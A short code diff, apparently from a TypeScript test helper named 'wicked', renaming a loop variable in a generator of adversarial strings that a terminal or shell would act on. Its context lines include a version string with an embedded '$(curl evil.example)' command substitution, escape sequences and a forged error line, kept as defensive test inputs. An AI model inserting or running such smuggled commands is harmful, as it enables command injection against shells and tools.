@@ -20,7 +20,7 @@ const ESCAPES = [
 /** A text that a terminal or a shell would act on. */
 export function wicked(random: Random): string {
   return random.pick([
-    ...ESCAPES.map((escape) => `text${escape}more`),
+    ...ESCAPES.map((sequence) => `text${sequence}more`),
     `9.9.9${PASTED}`,
     `1.0.0$(curl evil.example)`,
     "a\nerror: b\nc",
